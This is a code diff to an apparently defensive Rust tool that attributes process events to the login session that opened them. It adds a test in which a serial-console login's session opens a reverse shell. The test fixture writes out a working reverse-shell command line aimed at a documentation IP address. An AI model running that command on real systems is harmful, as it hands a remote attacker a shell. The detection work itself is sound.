@@ -87,6 +87,32 @@ fn ancestors_below_hosts(r: &Record) -> Vec<i64> {
     out
 }
 
+/// The pid of the login program (`login`, a per-connection `sshd`) that started the
+/// leader of record `r`'s session, if the walk up `r`'s lineage reaches the leader (the
+/// process whose pid is the session id) and its parent is one: the login that opened the
+/// session (see `Sessions::list_below`).
+fn login_above_leader(r: &Record) -> Option<i64> {
+    let sid = int(&r.event, "proc.sid").filter(|s| *s > 1)?;
+    let mut child = int(&r.event, "proc.pid")?;
+    for level in 1..=MAX_ANCESTORS {
+        let pid = int(&r.event, &crate::evidence::ancestor_key("proc.apid", level))
+            .or_else(|| (level == 1).then(|| int(&r.event, "proc.ppid")).flatten())?;
+        let name = text(
+            &r.event,
+            &crate::evidence::ancestor_key("proc.aname", level),
+        )
+        .or_else(|| (level == 1).then(|| text(&r.event, "proc.pname")).flatten())?;
+        if child == sid {
+            return (role(&name) == Role::Login && pid > 1).then_some(pid);
+        }
+        if hosts_many_sessions(&name) {
+            return None;
+        }
+        child = pid;
+    }
+    None
+}
+
 /// What counting a plain event in its session needs (see [`Sessions::count_plain`]).
 #[derive(Clone, Copy, Debug, Default)]
 pub struct PlainEvent<'a> {
@@ -527,6 +553,17 @@ impl Sessions {
         for pid in ancestors_below_hosts(r) {
             self.below.entry(pid_key(r, pid)).or_default().push(slot);
         }
+        // The login program the session's leader was started by (`login` on a serial
+        // console, a per-connection `sshd`) opened this session: what it did is part of
+        // what that login let in (session 24, the blind holdout34: a serial console login's
+        // alert clustered with the same login's sessions that then opened a reverse shell
+        // or cleared the authentication log). Only the parent: above it, a listener.
+        if let Some(login) = login_above_leader(r) {
+            let list = self.below.entry(pid_key(r, login)).or_default();
+            if !list.contains(&slot) {
+                list.push(slot);
+            }
+        }
     }
 
     /// A step toward an attack taken in a session started below the process of record `at`
@@ -561,6 +598,9 @@ impl Sessions {
                     {
                         return Some((Step::AccountChange, cmd.clone()))
                     }
+                    // A decisive step behind a connection (a shell's own connection out is
+                    // an outbound activity first), kept when the record was pushed.
+                    _ if a.decisive.is_some() => return a.decisive.clone(),
                     _ => {}
                 }
             }
@@ -1952,6 +1992,27 @@ mod tests {
         assert!(
             with_tunnel.contains(&"a tunnel to another host"),
             "{with_tunnel:?}"
+        );
+    }
+
+    /// Session 24, from the blind holdout34: a login program's alert (`login` on a serial
+    /// console) answers for the session it opened, the step a reverse shell in that
+    /// session took included; the same login whose session only restarts a service has
+    /// nothing below it.
+    #[test]
+    fn a_login_answers_for_the_session_it_opened() {
+        let login = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":1,"proc.pid":500,"proc.sid":400,"proc.ppid":400,"proc.tty":1088,"proc.name":"login","proc.exepath":"/bin/login","proc.cmdline":"login -p --","proc.pname":"agetty"}"#;
+        let bash = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":2,"proc.pid":501,"proc.sid":501,"proc.ppid":500,"proc.tty":1088,"proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"-bash","proc.pname":"login","proc.aname[2]":"agetty"}"#;
+        let restart = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":3,"proc.pid":502,"proc.sid":501,"proc.ppid":501,"proc.tty":1088,"proc.name":"systemctl","proc.exepath":"/usr/bin/systemctl","proc.cmdline":"systemctl restart kiln-ctl","proc.pname":"bash","proc.apid[2]":500,"proc.aname[2]":"login"}"#;
+        let shell = r#"{"evt.type":"connect","evt.rawres":0,"evt.rawtime":4,"proc.pid":503,"proc.sid":501,"proc.ppid":501,"proc.tty":1088,"proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"bash -c bash -i >& /dev/tcp/203.0.113.18/443 0>&1","proc.pname":"bash","proc.apid[2]":500,"proc.aname[2]":"login","fd.sip":"203.0.113.18","fd.name":"10.0.0.2:40000->203.0.113.18:443"}"#;
+        let below = |lines: &[&str]| {
+            let recs = parse_records(&lines.join("\n"), "t").unwrap();
+            Sessions::new(&recs).below_trace(&recs, 0).map(|(st, _)| st)
+        };
+        assert_eq!(below(&[login, bash, restart]), None);
+        assert_eq!(
+            below(&[login, bash, restart, shell]),
+            Some(crate::evidence::Step::ShellConnect)
         );
     }
 }
